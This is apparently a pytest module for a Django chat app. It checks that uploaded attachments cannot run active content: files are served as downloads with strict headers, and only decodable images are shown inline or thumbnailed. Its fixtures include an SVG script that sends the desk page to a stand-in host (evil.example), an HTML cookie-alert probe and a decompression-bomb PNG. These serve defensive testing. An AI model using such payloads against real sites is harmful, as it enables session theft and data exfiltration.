"""No active content on our origin (issue #16, findings 2 and 5): whatever an integration declares, only a PNG, JPEG,
GIF or WebP whose bytes decode is served inline; everything else is a download with `nosniff` and a policy that
allows nothing, on all three routes that serve files (desk, client API, integration API). Thumbnails come only from
images that decode at a bounded size, and a file that does not is never an error page."""

from __future__ import annotations

import base64
import io
from collections.abc import Callable

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image

from agents.models import Account, Agent
from agents.services import api_key_create
from conversations.models import Conversation, Media, Message
from devices.models import Customer, Device
from tests.factories import make_account, make_agent, make_conversation, post
from tests.integration.helpers import Api, App

pytestmark = pytest.mark.django_db

SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/desk/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))"
    b"</script></svg>"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
DOWNLOAD = "application/octet-stream"
MEDIA_CSP = "default-src 'none'; frame-ancestors 'none'; sandbox"  # no script, no fetch, never framed, own origin


def image_bytes(fmt: str, size: tuple[int, int] = (640, 480), mode: str = "RGB") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, 1 if mode == "1" else (30, 120, 200)).save(buffer, fmt)
    return buffer.getvalue()


def bomb_png() -> bytes:
    """30000×30000 pixels (900 MP, gigabytes once decoded) in about 100 kB: a decompression bomb."""
    return image_bytes("PNG", size=(30000, 30000), mode="1")


def b64(content: bytes) -> str:
    return base64.b64encode(content).decode()


@pytest.fixture
def account() -> Account:
    return make_account(name="Shop")


@pytest.fixture
def agent(account: Account) -> Agent:
    return make_agent(account=account)


@pytest.fixture
def desk(agent: Agent) -> Client:
    client = Client()
    client.force_login(agent.user)
    return client


@pytest.fixture
def api(account: Account) -> Api:
    _, key = api_key_create(account=account, name="backend")
    return Api(client=Client(), account=account, key=key)


@pytest.fixture
def app(account: Account) -> App:
    """The customer's web SDK install: the client API serves them the files of their own messages."""
    return App(client=Client(), account=account, device_id="web-device-security-1").register()


@pytest.fixture
def customer(app: App) -> Customer:
    return Device.objects.get(device_id=app.device_id).customer


@pytest.fixture
def conversation(account: Account, customer: Customer) -> Conversation:
    return make_conversation(account=account, customers=[customer])


@pytest.fixture
def chat_attachment(api: Api, conversation: Conversation, customer: Customer) -> Callable[..., Media]:
    """`POST /api/v2/conversations/<id>/chats` with one attachment, as the customer; returns the stored media."""

    def send(file_name: str, mime_type: str, content: bytes) -> Media:
        body = {
            "customer": {"id": str(customer.uuid)},
            "text": f"See {file_name}",
            "attachments": [{"fileName": file_name, "mimeType": mime_type, "data": b64(content)}],
        }
        response = api.post(f"/api/v2/conversations/{conversation.public_id}/chats", body)
        assert response.status_code == 201, response.content
        return Media.objects.get(message=Message.objects.latest("id"))

    return send


@pytest.fixture
def downloads(desk: Client, app: App, api: Api) -> Callable[[Media], dict]:
    """The file as each route serves it: the desk, the client API (by upload id) and the integration API."""

    def fetch(media: Media) -> dict:
        return {
            "desk": desk.get(f"/desk/media/{media.uuid}"),
            "client_api": app.client.get(f"/clientApi/v1.9/media/{media.uuid}", headers=app.headers()),
            "integration_api": api.get(f"/api/v2/attachments/{media.uuid}"),
        }

    return fetch


def served_as(response) -> tuple:
    return (
        response.status_code,
        response["Content-Type"],
        response["Content-Disposition"].split(";", 1)[0],
        response["X-Content-Type-Options"],
        response["Content-Security-Policy"],
    )


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- what is served, on each route -------------------------------------------------------------------------


def test_an_svg_with_a_script_is_a_download_everywhere_never_an_image(chat_attachment, downloads):
    media = chat_attachment("photo.svg", "image/svg+xml", SVG_WITH_SCRIPT)

    served = downloads(media)

    assert media.mime_type == "image/svg+xml"  # the integration API's answers keep the declared type (§3.6)
    assert {route: served_as(response) for route, response in served.items()} == {
        route: (200, DOWNLOAD, "attachment", "nosniff", MEDIA_CSP) for route in served
    }
    assert all(body(response) == SVG_WITH_SCRIPT for response in served.values())


@pytest.mark.parametrize(
    ("file_name", "mime_type", "content"),
    [
        pytest.param("photo.png", "image/png", SVG_WITH_SCRIPT, id="svg-declared-png"),
        pytest.param("photo.png", "image/png", HTML_PAGE, id="html-declared-png"),
        pytest.param("photo.png", "image/png", b"\x89PNG\r\n\x1a\n" + b"not a png at all" * 8, id="png-magic-only"),
        pytest.param("page.html", "text/html", HTML_PAGE, id="html"),
    ],
)
def test_a_file_whose_bytes_are_not_the_image_declared_is_a_download_everywhere(
    chat_attachment, downloads, file_name, mime_type, content
):
    media = chat_attachment(file_name, mime_type, content)

    served = downloads(media)

    for route, response in served.items():
        assert served_as(response)[:4] == (200, DOWNLOAD, "attachment", "nosniff"), route
        assert response["Content-Security-Policy"] == MEDIA_CSP, route


@pytest.mark.parametrize(
    ("fmt", "mime_type"),
    [("PNG", "image/png"), ("JPEG", "image/jpeg"), ("GIF", "image/gif"), ("WEBP", "image/webp")],
)
def test_a_real_image_is_served_inline_as_its_type_and_thumbnailed(
    chat_attachment, downloads, desk: Client, fmt: str, mime_type: str
):
    content = image_bytes(fmt)
    media = chat_attachment(f"photo.{fmt.lower()}", mime_type, content)

    served = downloads(media)
    thumbnail = desk.get(f"/desk/media/{media.uuid}", {"thumb": "1"})

    assert (media.checked_type, media.is_checked_image) == (mime_type, True)
    for route, response in served.items():
        assert served_as(response) == (200, mime_type, "inline", "nosniff", MEDIA_CSP), route
        assert body(response) == content, route
    assert (thumbnail.status_code, thumbnail["Content-Type"], thumbnail["Content-Security-Policy"]) == (
        200,
        mime_type,
        MEDIA_CSP,
    )
    with Image.open(io.BytesIO(thumbnail.content)) as small:
        assert (small.format, small.size) == (fmt, (320, 240))


def test_an_image_declared_as_another_type_is_not_inline(chat_attachment, downloads):
    """Inline needs the check and the declaration to agree; the client API's download keeps the type found (§5.8)."""
    media = chat_attachment("photo.gif", "image/gif", image_bytes("PNG"))

    served = downloads(media)

    assert (media.checked_type, media.is_checked_image) == ("image/png", False)
    assert {route: served_as(response)[:4] for route, response in served.items()} == {
        "desk": (200, DOWNLOAD, "attachment", "nosniff"),
        "client_api": (200, "image/png", "attachment", "nosniff"),
        "integration_api": (200, DOWNLOAD, "attachment", "nosniff"),
    }


def test_the_client_api_keeps_the_checked_type_of_a_download(chat_attachment, downloads):
    """§5.8: the SDKs take only a body of a type they know; a checked PDF stays a PDF (a download all the same)."""
    pdf = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    media = chat_attachment("invoice.pdf", "application/pdf", pdf)

    served = downloads(media)

    assert {route: served_as(response)[1:3] for route, response in served.items()} == {
        "desk": (DOWNLOAD, "attachment"),
        "client_api": ("application/pdf", "attachment"),
        "integration_api": (DOWNLOAD, "attachment"),
    }


# --- thumbnails --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(SVG_WITH_SCRIPT, id="svg"),
        pytest.param(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, id="broken-png"),
        pytest.param(image_bytes("JPEG"), id="jpeg-declared-png"),
    ],
)
def test_no_thumbnail_of_a_file_that_is_not_the_png_declared_and_no_error_page(
    chat_attachment, desk: Client, content: bytes
):
    media = chat_attachment("photo.png", "image/png", content)

    thumbnail = desk.get(f"/desk/media/{media.uuid}", {"thumb": "1"})

    assert thumbnail.status_code == 404


def test_a_decompression_bomb_is_neither_thumbnailed_nor_an_error_page(chat_attachment, desk: Client, downloads):
    content = bomb_png()
    assert len(content) < 200_000
    media = chat_attachment("huge.png", "image/png", content)

    thumbnail = desk.get(f"/desk/media/{media.uuid}", {"thumb": "1"})
    served = downloads(media)

    assert (media.checked_type, thumbnail.status_code) == ("", 404)
    assert {route: served_as(response)[:3] for route, response in served.items()} == {
        route: (200, DOWNLOAD, "attachment") for route in served
    }


def test_a_stored_image_that_no_longer_decodes_gets_no_thumbnail_and_no_error_page(chat_attachment, desk: Client):
    """Even a file that passed the check (or was recorded as checked by a migration) is decoded with care."""
    media = chat_attachment("photo.png", "image/png", image_bytes("PNG"))
    with open(media.file.path, "wb") as handle:
        handle.write(b"\x89PNG\r\n\x1a\n" + b"\xff" * 64)
    Media.objects.filter(pk=media.pk).update(thumbnail="")  # stored before thumbnails were made at upload (#22)

    thumbnail = desk.get(f"/desk/media/{media.uuid}", {"thumb": "1"})

    assert thumbnail.status_code == 404


# --- the desk's pages and replies --------------------------------------------------------------------------


def test_the_desk_timeline_shows_an_svg_as_a_download_link_never_in_an_img(
    chat_attachment, desk: Client, conversation: Conversation
):
    svg = chat_attachment("photo.svg", "image/svg+xml", SVG_WITH_SCRIPT)
    fake = chat_attachment("photo.png", "image/png", SVG_WITH_SCRIPT)
    real = chat_attachment("real.png", "image/png", image_bytes("PNG"))

    html = desk.get(f"/desk/conversations/{conversation.pk}/").content.decode()

    assert f'<a class="file" href="/desk/media/{svg.uuid}">photo.svg</a>' in html
    assert f'<a class="file" href="/desk/media/{fake.uuid}">photo.png</a>' in html
    assert f'src="/desk/media/{svg.uuid}' not in html and f'src="/desk/media/{fake.uuid}' not in html
    assert f'<img class="thumb" src="/desk/media/{real.uuid}?thumb=1" alt="real.png">' in html


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("photo.svg", SVG_WITH_SCRIPT, id="svg"),
        pytest.param("photo.png", SVG_WITH_SCRIPT, id="svg-named-png"),
        pytest.param("huge.png", bomb_png(), id="decompression-bomb"),
        pytest.param("wide.png", image_bytes("PNG", size=(10_000, 6_000), mode="1"), id="60-megapixels"),
    ],
)
def test_a_desk_reply_is_refused_unless_its_file_decodes_as_an_image_of_bounded_size(
    desk: Client, conversation: Conversation, customer: Customer, name: str, content: bytes
):
    post(conversation, customer, "Can you send me the label?")
    upload = SimpleUploadedFile(name, content, content_type="image/png")

    response = desk.post(
        f"/desk/conversations/{conversation.pk}/reply",
        {"text": "Here you are", "image": upload},
        headers={"Accept": "application/json"},
    )

    assert (response.status_code, response.json()) == (400, {"ok": False, "error": "Only images can be attached."})
    assert not Media.objects.exists()
